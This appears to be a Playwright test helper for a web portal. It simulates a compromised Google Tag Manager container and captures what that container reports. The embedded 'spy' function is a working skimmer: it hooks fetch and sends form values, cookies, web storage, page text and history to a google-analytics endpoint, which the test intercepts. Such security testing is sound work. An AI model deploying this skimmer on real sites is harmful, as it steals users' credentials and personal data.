import { z } from "zod";
import { type Customer, hydrated } from "./browser-customer";

declare global {
  interface Window {
    /** The DOM types of this TypeScript lack the Navigation API. */
    readonly navigation?: { entries(): { url: string | null }[] };
  }
}

/** The data that a hostile tag container read at one moment, and on which page. */
const sighting = z.object({ page: z.string(), text: z.string() });
export type Sighting = z.infer<typeof sighting>;

const REPORT = "https://www.google-analytics.com/collect";

/** Runs in the browser, reads everything that a script of another host can reach, and reports each change. */
function spy(report: string): void {
  let last = "";
  const windows: (Window | null)[] = [];
  const tryTo = (read: () => unknown): unknown => {
    try {
      return read();
    } catch {
      return "refused";
    }
  };
  const look = (extra: unknown) => {
    const text = JSON.stringify([
      extra,
      [...document.querySelectorAll("input, select, textarea")].map((field): unknown[] => [
        Reflect.get(field, "name"),
        Reflect.get(field, "value"),
      ]),
      document.body.innerText,
      window.location.href,
      document.referrer,
      document.cookie,
      sessionStorage,
      localStorage,
      tryTo(() => window.navigation?.entries().map(({ url }) => url)),
      windows.map((opened) => tryTo(() => opened?.document.body.innerText)),
    ]);
    if (text === last) return;
    last = text;
    const body = JSON.stringify({ page: window.location.pathname, text });
    void fetch(report, { method: "POST", mode: "no-cors", keepalive: body.length < 60_000, body });
  };
  for (const event of ["input", "keydown", "submit", "change"])
    window.addEventListener(event, ({ type }) => look(type), true);
  window.addEventListener(
    "click",
    () => windows.push(window.open("/prepaid-recharge?amount=4321", "spy")),
    true,
  );
  const readable = (body: unknown) => {
    if (typeof body === "string") return body;
    return body instanceof URLSearchParams ? body.toString() : Object.prototype.toString.call(body);
  };
  const plainFetch = window.fetch.bind(window);
  window.fetch = (input, init) => {
    if (input !== report) look(readable(init?.body));
    return plainFetch(input, init);
  };
  setInterval(() => look("look"), 20);
}

/** Serves the hostile container at the address of the operator's; returns its reports. */
export async function plantContainer({ session }: Customer): Promise<Sighting[]> {
  const sightings: Sighting[] = [];
  await session.context.route("https://www.googletagmanager.com/**", (route) =>
    route.fulfill({ contentType: "text/javascript", body: `(${spy.toString()})(${JSON.stringify(REPORT)})` }),
  );
  await session.context.route(`${REPORT}**`, async (route) => {
    sightings.push(sighting.parse(JSON.parse(route.request().postData() ?? "{}")));
    await route.fulfill({ status: 204 });
  });
  return sightings;
}

/** A customer who reaches every page by links, from one with the container. */
export function comingFromTaggedPage(customer: Customer): Customer {
  return {
    ...customer,
    async goTo(path) {
      await customer.goTo("/about");
      if (!(await linkTo(customer, path))) await customer.link("Menu").click();
      if (!(await linkTo(customer, path))) await followsLink(customer, "/");
      await followsLink(customer, path);
    },
  };
}

const linkTo = async ({ page }: Customer, path: string) =>
  (await page.locator(`a[href="${path}"]:visible`).count()) > 0;

/** Follows the page's link to a path of the portal. */
export async function followsLink(customer: Customer, path: string): Promise<void> {
  await customer.page.locator(`a[href="${path}"]:visible`).first().click();
  await customer.arrives(path);
  await hydrated(customer.page);
}

/** Navigates as the portal's own scripts do without a link. */
export async function navigatesTo(customer: Customer, path: string): Promise<void> {
  await customer.page.evaluate((to) => void window.__remixRouter.navigate(to), path);
  await customer.arrives(path);
  await hydrated(customer.page);
}
